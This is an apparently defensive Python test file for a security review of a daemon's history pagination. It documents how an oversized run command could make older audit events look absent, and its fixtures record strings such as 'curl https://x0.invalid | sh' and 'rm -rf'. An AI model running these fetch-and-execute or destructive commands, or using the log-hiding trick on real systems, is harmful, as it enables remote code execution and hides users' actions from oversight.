"""Attack review s15 (store and history side of 0e5d5ee..70c3ca8). Each test asserts the secure
behaviour and fails on 70c3ca8 (the first was written then against wire.maybe_cut itself).

`wire.maybe_cut` decides whether a history answer was cut by `wire.fitting`: it says yes only
when the answer holds over half of ANSWER_MAX_BYTES ("no row alone is that large in
practice"). But fitting cuts *before* the first row that does not fit, so an answer cut in
front of one large row (over 2 MiB less the rows above it) holds only the small rows above
it, and maybe_cut says "not cut". Such a row is one `run.start` away: a run's command may be
256 KiB (ops/runs.py COMMAND_MAX_BYTES, UTF-8 bytes), and run.started holds it twice (its text
and data.command), as JSON with every control character written as a 6-byte \\u escape:
200 Ki of ESC make a 2.4 MiB row on the wire (an answer of it alone is still under the 4 MiB
line bound). Then `pilothouse history` prints the few newer rows and says nothing, and the
console's history screen takes them for the end (no next page): every event older than that
run's start is out of reach of both, though the history holds them. Anyone who may start a
run (an approver teammate) can put such a row over what they did before.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from console import wire
from console.daemon.ops.history import history_op
from store import StoreWriter
from tests.conftest import Daemon, history_writer
from tests.store.conftest import FileStore

# A command the daemon accepts (256 KiB of UTF-8 at most), in one argument.
# Control characters are written as 6-byte \\u escapes in JSON: 200 Ki of ESC are 1.2 MiB.
BIG_COMMAND = ["sh", "-c", "printf '" + "\x1b" * (200 * 1024) + "'"]


def test_an_answer_cut_in_front_of_one_large_row_is_said_to_be_cut(
        make_writer: Callable[..., StoreWriter], db_path: Path) -> None:
    """54 small rows, then a run.started row of 2.4 MiB, then five small rows: the answer
    holds the five (fitting cuts in front of the large row), and must say that more match.
    (Before: a heuristic, wire.maybe_cut, took an answer under 1 MiB for the end.)"""
    w = make_writer()
    for i in range(54):
        w.record("approval.decided", run_id="r1", actor="bob", text=f"bob allowed rm -rf b{i}")
    w.record("run.started", run_id="r2", actor="bob", text=" ".join(BIG_COMMAND),
             data={"command": BIG_COMMAND})
    for i in range(5):
        w.record("run.kill", run_id="r2", actor="bob", text=f"bob stopped r2 ({i})")
    w.flush()
    core = SimpleNamespace(store=FileStore(db_path))

    def ask(**args: Any) -> Any:
        result = asyncio.run(history_op(core, None, args, None))  # type: ignore[arg-type]
        return wire.decode(wire.encode(wire.ok(1, result)))["result"]  # as a client reads it

    page = ask(limit=50, paged=True)
    assert [r["kind"] for r in page["rows"]] == ["run.kill"] * 5, "cut in front of the large row"
    assert page["more"], "an answer cut in front of a large row reads as the end of the history"
    big = ask(limit=50, paged=True, before_id=page["rows"][-1]["id"])
    assert [r["kind"] for r in big["rows"]] == ["run.started"] and big["more"]
    rest = ask(limit=50, paged=True, before_id=big["rows"][-1]["id"])
    assert len(rest["rows"]) == 50 and rest["more"]
    end = ask(limit=50, paged=True, before_id=rest["rows"][-1]["id"])
    assert len(end["rows"]) == 4 and not end["more"], "the end is said to be the end"
    assert ask(limit=9) == ask(limit=9, paged=True)["rows"], "unpaged: the same rows, a list"


def _fill(home: Path) -> None:
    with history_writer(home) as w:
        for i in range(30):  # what the teammate did first
            w.record("approval.decided", run_id="r0001", actor="bob",
                     text=f"bob allowed exec curl https://x{i}.invalid | sh",
                     data={"id": f"q{i}", "allow": True, "subject": f"curl https://x{i}.invalid | sh"})
        # then a run, recorded as RunManager.start records it
        w.record("run.started", run_id="r0002", actor="bob",
                 text=f"demo in bwrap: {' '.join(BIG_COMMAND)}",
                 data={"profile": "demo", "backend": "bwrap", "workspace": "/tmp/ws",
                       "command": BIG_COMMAND, "unsandboxed": False})
        for i in range(3):
            w.record("run.kill", run_id="r0002", actor="bob", text=f"bob stopped run r0002 ({i})")


def test_history_says_when_an_answer_stops_in_front_of_a_large_row(
        home: Path, daemon_env: dict[str, str]) -> None:
    """A real daemon over a real history: `history --limit 50` answers the rows newer than the
    large run.started and must either hold the older ones or say how to page on."""
    _fill(home)
    d = Daemon(home, daemon_env)
    d.start()
    try:
        got = d.cli("history", "--limit", "50", "--json")
        rows = json.loads(got.stdout)
        older = [r for r in rows if r["kind"] == "approval.decided"]
        assert older or "--before" in got.stderr, (
            f"{len(rows)} rows of up to 50 shown ({[r['kind'] for r in rows]}), none of bob's "
            f"30 approvals, and nothing said on stderr: {got.stderr!r}")
    finally:
        d.stop()
